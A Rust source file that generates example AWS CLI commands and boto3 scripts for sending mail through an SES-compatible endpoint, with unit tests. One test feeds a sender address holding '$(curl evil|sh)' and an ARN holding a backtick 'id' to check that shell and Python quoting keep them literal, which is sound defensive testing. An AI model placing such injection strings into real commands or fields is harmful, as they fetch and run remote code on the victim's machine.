//! Copyable examples of sending through the SES-compatible API (SES v2 `SendEmail`), with
//! the AWS CLI and boto3: filled in with this Sesame's endpoint, the identity's region,
//! the key (placeholders unless just created) and the identity sent as — an address it
//! covers, and for a shared identity its ARN as `FromEmailAddressIdentityArn` (without it,
//! the send is refused as unverified). They send to the mailbox simulator, which a
//! sandboxed account may send to, so they work as copied from a new account. Values are
//! quoted as literals (`quote`): a shared identity's name and ARN are another account's
//! words.

use crate::{quote, sending::SIMULATOR_SUCCESS};

/// What an example needs.
pub struct ApiExample<'a> {
    pub endpoint: &'a str,
    pub region: &'a str,
    pub key_id: &'a str,
    pub secret: &'a str,
    pub from: &'a str,
    /// A shared identity's ARN.
    pub identity_arn: Option<&'a str>,
}

const SUBJECT: &str = "Hello from Sesame";
const BODY: &str = "Hello!";

/// An `aws sesv2 send-email` command line, the key given in the environment.
pub fn aws_cli(e: &ApiExample<'_>) -> String {
    format!(
        "AWS_ACCESS_KEY_ID={key} AWS_SECRET_ACCESS_KEY={secret} \\\naws sesv2 send-email --endpoint-url {endpoint} --region {region} \\\n  --from-email-address {from} \\\n{arn}  --destination ToAddresses={to} \\\n  --content 'Simple={{Subject={{Data={SUBJECT}}},Body={{Text={{Data={BODY}}}}}}}'",
        key = quote::shell(e.key_id),
        secret = quote::shell(e.secret),
        endpoint = e.endpoint,
        region = e.region,
        from = quote::shell(e.from),
        to = SIMULATOR_SUCCESS,
        arn = e
            .identity_arn
            .map(|arn| format!("  --from-email-address-identity-arn {} \\\n", quote::shell(arn)))
            .unwrap_or_default(),
    )
}

/// A Python (boto3) script.
pub fn boto3(e: &ApiExample<'_>) -> String {
    format!(
        "import boto3\n\nses = boto3.client(\n    \"sesv2\",\n    endpoint_url=\"{endpoint}\",\n    region_name=\"{region}\",\n    aws_access_key_id={key},\n    aws_secret_access_key={secret},\n)\nresponse = ses.send_email(\n    FromEmailAddress={from},\n{arn}    Destination={{\"ToAddresses\": [\"{to}\"]}},\n    Content={{\"Simple\": {{\"Subject\": {{\"Data\": \"{SUBJECT}\"}}, \"Body\": {{\"Text\": {{\"Data\": \"{BODY}\"}}}}}}}},\n)\nprint(response[\"MessageId\"])\n",
        key = quote::python(e.key_id),
        secret = quote::python(e.secret),
        endpoint = e.endpoint,
        region = e.region,
        from = quote::python(e.from),
        to = SIMULATOR_SUCCESS,
        arn = e
            .identity_arn
            .map(|arn| format!("    # The identity another account shared with you:\n    FromEmailAddressIdentityArn={},\n", quote::python(arn)))
            .unwrap_or_default(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    const OWN: ApiExample<'static> = ApiExample {
        endpoint: "https://sesame.example.com",
        region: "eu-west-1",
        key_id: "AKIAEXAMPLE",
        secret: "SECRET",
        from: "sender@example.com",
        identity_arn: None,
    };

    #[test]
    fn an_own_identity_needs_no_arn() {
        let cli = aws_cli(&OWN);
        assert!(cli.starts_with("AWS_ACCESS_KEY_ID='AKIAEXAMPLE' AWS_SECRET_ACCESS_KEY='SECRET' \\\naws sesv2 send-email --endpoint-url https://sesame.example.com --region eu-west-1"));
        assert!(cli.contains("--from-email-address 'sender@example.com' \\\n"));
        assert!(cli.contains(&format!("ToAddresses={SIMULATOR_SUCCESS}")));
        assert!(cli.ends_with(
            "--content 'Simple={Subject={Data=Hello from Sesame},Body={Text={Data=Hello!}}}'"
        ));
        assert!(!cli.contains("identity-arn"));
        let python = boto3(&OWN);
        assert!(python.contains("endpoint_url=\"https://sesame.example.com\""));
        assert!(python.contains("region_name=\"eu-west-1\""));
        assert!(!python.contains("IdentityArn"));
    }

    #[test]
    fn another_accounts_values_stay_literal() {
        let hostile = ApiExample {
            from: "a'$(curl evil|sh)'\"@evil.example",
            identity_arn: Some("arn:aws:ses:eu-west-1:111122223333:identity/x'`id`"),
            ..OWN
        };
        let cli = aws_cli(&hostile);
        assert!(
            cli.contains(r#"--from-email-address 'a'\''$(curl evil|sh)'\''"@evil.example' \"#),
            "{cli}"
        );
        assert!(cli.contains(r"--from-email-address-identity-arn 'arn:aws:ses:eu-west-1:111122223333:identity/x'\''`id`'"), "{cli}");
        let python = boto3(&hostile);
        assert!(
            python.contains(r#"FromEmailAddress="a'$(curl evil|sh)'\"@evil.example","#),
            "{python}"
        );
    }

    #[test]
    fn a_shared_identity_is_named_by_its_arn() {
        let arn = "arn:aws:ses:eu-west-1:111122223333:identity/partner.example";
        let shared = ApiExample {
            from: "news@partner.example",
            identity_arn: Some(arn),
            ..OWN
        };
        assert!(
            aws_cli(&shared).contains(&format!("  --from-email-address-identity-arn '{arn}' \\\n"))
        );
        assert!(boto3(&shared).contains(&format!("    FromEmailAddressIdentityArn=\"{arn}\",\n")));
        assert!(boto3(&shared).contains("FromEmailAddress=\"news@partner.example\""));
    }
}
